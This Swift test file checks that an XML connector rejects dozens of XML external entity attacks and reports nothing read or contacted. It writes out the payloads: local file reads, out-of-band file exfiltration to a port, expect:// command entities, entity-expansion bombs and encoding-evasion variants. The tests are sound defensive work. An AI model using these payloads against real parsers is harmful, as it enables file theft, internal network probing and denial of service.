import ConnectorKit
import Testing
import Values

@testable import Connectors

/// Answers that want a file or another system read, or a small text made large: refused, with nothing read, nothing
/// called and nothing believed.
@Suite(.serialized) struct EntityPayloadTests {
  struct Payload: Sendable, CustomTestStringConvertible {
    var name: String
    /// What the message says, behind "a document that is not whole: ".
    var words: String
    /// FILE and PORT stand for what is watched, BODY for the envelope of an answer that holds `&x;`.
    var text: String
    var encode: @Sendable (String) -> [UInt8] = { Array($0.utf8) }

    init(
      _ name: String, _ words: String, _ text: String,
      encode: @escaping @Sendable (String) -> [UInt8] = { Array($0.utf8) }
    ) {
      (self.name, self.words, self.text, self.encode) = (name, words, text, encode)
    }

    var testDescription: String { name }
  }

  private static let doctype = "the document has a DOCTYPE, which is not allowed"
  private static let wide = "the document is not in UTF-8"

  private static func entity(_ declaration: String) -> String {
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE e [\(declaration)]>\nBODY"
  }

  private static func utf16(_ text: String, isLittle: Bool, mark: Bool) -> [UInt8] {
    ((mark ? [0xFEFF] : []) + Array(text.utf16)).flatMap { unit in
      let bytes = [UInt8(unit >> 8), UInt8(unit & 255)]
      return isLittle ? bytes.reversed() : bytes
    }
  }

  private static func utf32(_ text: String) -> [UInt8] {
    text.unicodeScalars.flatMap { [0, UInt8($0.value >> 16), UInt8($0.value >> 8 & 255), UInt8($0.value & 255)] }
  }

  static let payloads: [Payload] = [
    Payload("a file", doctype, entity("<!ENTITY x SYSTEM \"file://FILE\">")),
    Payload("a file by its path", doctype, entity("<!ENTITY x SYSTEM \"FILE\">")),
    Payload("another system", doctype, entity("<!ENTITY x SYSTEM \"http://127.0.0.1:PORT/x\">")),
    Payload("another system, ftp", doctype, entity("<!ENTITY x SYSTEM \"ftp://127.0.0.1:PORT/x\">")),
    Payload("a public name", doctype, entity("<!ENTITY x PUBLIC \"-//X//EN\" \"http://127.0.0.1:PORT/x\">")),
    Payload(
      "programs of others", doctype, entity("<!ENTITY x SYSTEM \"expect://id\"><!ENTITY y SYSTEM \"php://input\">")),
    Payload("a picture", doctype, entity("<!NOTATION n SYSTEM \"x\"><!ENTITY x SYSTEM \"file://FILE\" NDATA n>")),
    Payload("a parameter entity", doctype, entity("<!ENTITY % p SYSTEM \"http://127.0.0.1:PORT/x.dtd\"> %p;")),
    Payload("a parameter entity from a file", doctype, entity("<!ENTITY % p SYSTEM \"file://FILE\"> %p;")),
    Payload(
      "a file carried away", doctype,
      entity(
        "<!ENTITY % f SYSTEM \"file://FILE\"><!ENTITY % d \"<!ENTITY &#37; o SYSTEM 'http://127.0.0.1:PORT/?%f;'>\">%d;%o;"
      )),
    Payload("a foreign DTD", doctype, "<!DOCTYPE e SYSTEM \"http://127.0.0.1:PORT/x.dtd\">BODY"),
    Payload("a foreign DTD of a file", doctype, "<!DOCTYPE e SYSTEM \"file://FILE\">BODY"),
    Payload(
      "a foreign DTD with a public name", doctype, "<!DOCTYPE e PUBLIC \"-//X//EN\" \"http://127.0.0.1:PORT/x\">BODY"),
    Payload("an empty DOCTYPE", doctype, "<!DOCTYPE e>BODY"),
    Payload(
      "a thousand million laughs", doctype,
      entity(
        "<!ENTITY a \"ha\">"
          + zip("abcdefgh", "bcdefghx").map { "<!ENTITY \($1) \"\(String(repeating: "&\($0);", count: 10))\">" }
          .joined())),
    Payload(
      "one long entity, many times", doctype, entity("<!ENTITY x \"\(String(repeating: "x", count: 50_000))\">")),
    Payload("an entity inside of itself", doctype, entity("<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">")),
    Payload(
      "behind a comment", doctype,
      "<?xml version=\"1.0\"?><!-- x --><!DOCTYPE e [<!ENTITY x SYSTEM \"file://FILE\">]>BODY"),
    Payload("behind an instruction", doctype, "<?x y?><!DOCTYPE e [<!ENTITY x SYSTEM \"file://FILE\">]>BODY"),
    Payload(
      "behind many lines", doctype, String(repeating: "\n", count: 70_000) + "<!DOCTYPE e SYSTEM \"file://FILE\">BODY"),
    Payload("behind a mark", doctype, "\u{FEFF}<!DOCTYPE e [<!ENTITY x SYSTEM \"file://FILE\">]>BODY"),
    Payload(
      "in a later version of XML", doctype,
      "<?xml version=\"1.1\"?><!DOCTYPE e [<!ENTITY x SYSTEM \"file://FILE\">]>BODY"),
    Payload("in small letters", "line 1: ", "<!doctype e [<!ENTITY x SYSTEM \"file://FILE\">]>BODY"),
    Payload("inside of the root", "line 1: ", "<e><!DOCTYPE e [<!ENTITY x SYSTEM \"file://FILE\">]>BODY</e>"),
    Payload("behind the root", "something follows the end", "<e/><!DOCTYPE e [<!ENTITY x SYSTEM \"file://FILE\">]>"),
    Payload("behind CDATA", "line 1: ", "<![CDATA[]]><!DOCTYPE e [<!ENTITY x SYSTEM \"file://FILE\">]>BODY"),
    Payload("without any declaration", "Entity 'x' not defined", "BODY"),
    Payload("in an attribute", "Entity 'x' not defined", "<e a=\"&x;\">BODY</e>"),
    Payload("UTF-16, small end first", wide, entity("<!ENTITY x SYSTEM \"file://FILE\">")) {
      utf16($0, isLittle: true, mark: true)
    },
    Payload("UTF-16, large end first", wide, entity("<!ENTITY x SYSTEM \"file://FILE\">")) {
      utf16($0, isLittle: false, mark: true)
    },
    Payload("UTF-16 without a mark", wide, entity("<!ENTITY x SYSTEM \"file://FILE\">")) {
      utf16($0, isLittle: true, mark: false)
    },
    Payload("UTF-32", wide, entity("<!ENTITY x SYSTEM \"file://FILE\">")) { utf32($0) },
    Payload(
      "UTF-7", "UTF-7",
      "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE e +AFsAPAAh-ENTITY x SYSTEM +ACI-file://FILE+ACIAPgBdAD4-BODY"
    ),
    Payload("UTF-16 said, UTF-8 sent", "", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>BODY"),
    Payload("another alphabet", "ISO-8859-1", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>BODY"),
    Payload("an alphabet of large machines", "", "<?xml version=\"1.0\" encoding=\"IBM037\"?>BODY"),
    Payload(
      "an entity and an inclusion", doctype,
      entity("<!ENTITY x SYSTEM \"file://FILE\">")
        + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"FILE\"/>"),
  ]

  private func document(_ payload: Payload, _ watch: Watch) -> [UInt8] {
    let inside = "<ns:GetRelationsResponse><ns:relationList><ns:relation><ns:name>&x;</ns:name></ns:relation>"
    let body = ScriptedTransport.Answer.envelope(inside + "</ns:relationList></ns:GetRelationsResponse>")
    let envelope = String(body[(body.firstRange(of: "?>")?.upperBound ?? body.startIndex)...])
    return payload.encode(
      payload.text.replacing("FILE", with: watch.path).replacing("PORT", with: "\(watch.port)").replacing(
        "BODY", with: envelope))
  }

  @Test func theWatchWorks() throws {
    let watch = try Watch()
    #expect(!watch.wasOpened && !watch.wasCalled)
    watch.touch()
    #expect(watch.wasOpened && watch.wasCalled)
  }

  @Test func thereAreEnough() { #expect(Self.payloads.count >= 25) }

  @Test(arguments: payloads)
  func isRefused(payload: Payload) async throws {
    let watch = try Watch()
    let bytes = document(payload, watch)
    for status in [200, 500] {
      let answer = ScriptedTransport.Answer.response(
        HTTPResponse(status: status, headers: ["content-type": "text/xml"], body: bytes))
      let till = TestTill(dumped: false, answer, answer)
      let read = try await #require(throws: ConnectorError.self) { try await till.read("relations") }
      let write = try await #require(throws: ConnectorError.self) {
        try await till.create("relations", [.text("name", "x")])
      }
      if status == 200 {
        #expect(read.kind == .misunderstood && write.kind == .misunderstood)
        let start = "Mplus answered getRelations with a document that is not whole: "
        #expect(read.message.hasPrefix(start) && read.message.contains(payload.words), "\(read.message)")
      } else {
        #expect(read.kind == .unavailable && write.kind == .ambiguous)
      }
      for error in [read, write] {
        #expect(!error.message.contains(Watch.content) && error.message.utf8.count < 500)
      }
    }
    // The shop's connector reads JSON, whatever the answer calls itself.
    let answer = ScriptedTransport.Answer.response(
      HTTPResponse(status: 200, headers: ["content-type": "application/xml"], body: bytes))
    let shop = Shop([answer])
    #expect(try await failure { try await shop.read("brands") }.kind == .misunderstood)
    #expect(!watch.wasOpened)
    #expect(!watch.wasCalled)
  }

  /// What names files and systems without being an entity is text, and nothing comes of it.
  @Test(arguments: [
    "<![CDATA[<!DOCTYPE e [<!ENTITY x SYSTEM \"file://FILE\">]>&x;]]>", "&lt;!ENTITY x SYSTEM \"file://FILE\"&gt;",
    "<!-- <!DOCTYPE e SYSTEM \"file://FILE\"> -->", "<?xml-stylesheet href=\"http://127.0.0.1:PORT/x\"?>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"FILE\" parse=\"text\"/>",
  ])
  func namesAreTextOnly(inside: String) async throws {
    let watch = try Watch()
    let inside = inside.replacing("FILE", with: watch.path).replacing("PORT", with: "\(watch.port)")
    let answer = ScriptedTransport.Answer.xml(
      200,
      ScriptedTransport.Answer.envelope(
        "<ns:GetRelationsResponse><ns:relationList><ns:relation><ns:relationNumber>1</ns:relationNumber>"
          + "<ns:name>\(inside)</ns:name></ns:relation></ns:relationList></ns:GetRelationsResponse>"))
    let till = TestTill(dumped: false, answer)
    let page = try? await till.read("relations")
    let shown = page?.records.map { "\($0.tree)" }.joined() ?? ""
    #expect(!shown.contains(Watch.content))
    #expect(!watch.wasOpened)
    #expect(!watch.wasCalled)
  }
}
